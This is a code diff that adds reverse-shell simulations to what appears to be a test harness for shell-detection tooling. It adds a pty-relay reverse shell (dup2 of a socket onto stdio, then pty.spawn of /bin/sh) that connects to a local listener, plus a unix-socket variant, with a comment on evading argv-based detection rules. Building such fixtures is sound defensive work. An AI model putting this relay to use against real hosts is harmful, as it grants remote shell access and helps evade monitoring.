@@ -140,6 +140,32 @@ def unix_stdio_shell():
     p.wait(timeout=30)
 
 
+def pty_relay(sock):
+    """The "upgraded" reverse shell: the socket on this process's stdio (dup2), a shell on
+    a pseudo-terminal this process relays to it (pty.spawn): the shell's own stdio is the
+    pty, not the socket. Run from a script file: no -c one-liner for argv rules to see."""
+    import pty
+    for fd in (0, 1, 2):
+        os.dup2(sock.fileno(), fd)
+    pty.spawn(["/bin/sh"])
+
+
+def pty_relay_unix():
+    """The same relay on a unix socket: how a web terminal service (ttyd, a notebook's
+    terminal) under systemd looks — its stdio the journal's unix socket."""
+    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
+    if os.fork() == 0:
+        b.close()
+        pty_relay(a)
+        os._exit(0)
+    a.close()
+    time.sleep(1.5)
+    b.sendall(b"exit\n")
+    while b.recv(4096):
+        pass
+    os.wait()
+
+
 def shell(argv, stdin=subprocess.DEVNULL):
     return subprocess.call(argv, stdin=stdin, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
@@ -199,6 +225,10 @@ def main():
         socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()
     elif cmd == "unix-stdio-shell":
         unix_stdio_shell()
+    elif cmd == "pty-relay-shell":  # args: the listener's port
+        pty_relay(socket.create_connection(("127.0.0.1", int(args[0]))))
+    elif cmd == "pty-relay-unix":
+        pty_relay_unix()
     elif cmd == "spawn-shell":      # a web app's "upgrade to an interactive shell"
         shell(["/bin/sh", "-i"])
     elif cmd == "spawn-bash-i":
